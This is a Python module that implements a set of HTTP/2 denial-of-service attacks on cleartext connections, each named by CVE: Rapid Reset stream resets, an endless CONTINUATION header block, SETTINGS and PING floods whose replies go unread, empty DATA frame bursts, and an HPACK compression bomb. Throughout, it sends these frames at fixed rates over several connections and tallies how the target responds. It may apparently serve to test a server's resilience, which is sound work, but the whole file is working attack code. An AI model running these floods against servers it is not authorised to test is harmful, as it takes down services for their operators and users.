"""Attacks with frames of HTTP/2 over connections without TLS."""

from collections import Counter

import h2
from crowd import Crowd, Steady

CONNECTIONS = 4
# Frames in one write, of those that are a few bytes long.
BURST = 200


class Told:
    """What a target says of our frames."""

    def __init__(self):
        self.says = Counter()

    def hear(self, line, piece):
        if line.state is None:
            line.state = h2.Reader()
        for kind, flags, _, payload in line.state.frames(piece):
            if kind == h2.GOAWAY:
                self.says["GOAWAY " + h2.error(payload, 4)] += 1
            elif kind == h2.RST_STREAM:
                self.says["RST_STREAM " + h2.error(payload, 0)] += 1
            elif kind == h2.SETTINGS and not flags & h2.ACK:
                line.send(h2.frame(h2.SETTINGS, h2.ACK))
            elif kind == h2.HEADERS:
                self.says["answers"] += 1


def flood(port, seconds, rate, make, what, reads=True):
    """Sends `make(line)`, `rate` times a second in all. One is a step of the attack."""
    told = Told()
    crowd = Crowd(port, seconds, told.hear, reads)
    lines = Steady(crowd, CONNECTIONS, h2.PREFACE + h2.frame(h2.SETTINGS), small=not reads)
    sent = held_back = 0
    for due in crowd.ticks(rate):
        for _ in range(due):
            line = lines.next()
            if line is None:
                held_back += 1
                continue
            line.send(make(line))
            sent += 1
    crowd.reads = True
    for line in list(crowd.lines.values()):
        crowd.watch(line)
    crowd.until += 0.5
    crowd.turn(crowd.until)
    return {
        "planned": int(rate * seconds), "sent": sent, "stopped": sum(crowd.ends.values()) + held_back,
        "did": told_in_words(crowd, told, sent, int(rate * seconds), what),
    }  # fmt: skip


def told_in_words(crowd, told, sent, planned, what):
    words = [f"took {sent:,} of {planned:,} {what}"]
    ended = sum(crowd.ends.values())
    if ended:
        words.append(
            f"closed {ended:,} of {crowd.opened + crowd.unopened:,} connections {crowd.life()}"
        )
    else:
        words.append(f"closed none of {crowd.opened} connections")
    words += [f"{count:,} {name}" for name, count in sorted(told.says.items()) if count]
    return "; ".join(words)


def rapid_reset(port, seconds):
    """CVE-2023-44487: streams that are opened and reset at once."""

    def make(line):
        line.stream = getattr(line, "stream", -1) + 2
        head = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, line.stream, h2.request())
        return head + h2.frame(h2.RST_STREAM, 0, line.stream, b"\0\0\0\x08")

    return flood(port, seconds, 8000, make, "streams opened and reset")


def continuation(port, seconds):
    """CVE-2024-27316 and its kin: one block of fields that never ends."""
    fields = b"".join(h2.field(b"x-%04d" % n, b"y" * 100) for n in range(140))

    def make(line):
        if not hasattr(line, "stream"):
            line.stream = 1
            return h2.frame(h2.HEADERS, 0, 1, h2.request())
        return h2.frame(h2.CONTINUATION, 0, 1, fields)

    return flood(port, seconds, 1500, make, "frames of 15 KiB")


def settings(port, seconds):
    """CVE-2019-9515: each frame wants an answer, and the answers are not read."""
    burst = h2.frame(h2.SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * BURST
    return flood(port, seconds, 1000, lambda _: burst, f"times {BURST} frames", reads=False)


def ping(port, seconds):
    """CVE-2019-9512: the same with PING."""
    burst = h2.frame(h2.PING, 0, 0, b"tidegate") * BURST
    return flood(port, seconds, 1000, lambda _: burst, f"times {BURST} frames", reads=False)


def empty_data(port, seconds):
    """CVE-2019-9518: a body of frames with nothing in them."""
    burst = h2.frame(h2.DATA, 0, 1) * BURST

    def make(line):
        if not hasattr(line, "stream"):
            line.stream = 1
            return h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request(b"POST"))
        return burst

    return flood(port, seconds, 1000, make, f"times {BURST} frames")


def hpack_bomb(port, seconds):
    """CVE-2016-6581: a field of 4 KB kept once and named 16,000 times in each block."""
    first = h2.request() + h2.kept(b"a", b"x" * 4000)
    bomb = h2.request() + h2.NEWEST * 16000

    def make(line):
        flags = h2.END_HEADERS | h2.END_STREAM
        line.stream = getattr(line, "stream", -1) + 2
        return h2.frame(h2.HEADERS, flags, line.stream, first if line.stream == 1 else bomb)

    return flood(port, seconds, 200, make, "blocks of 16 KB that stand for 64 MB")
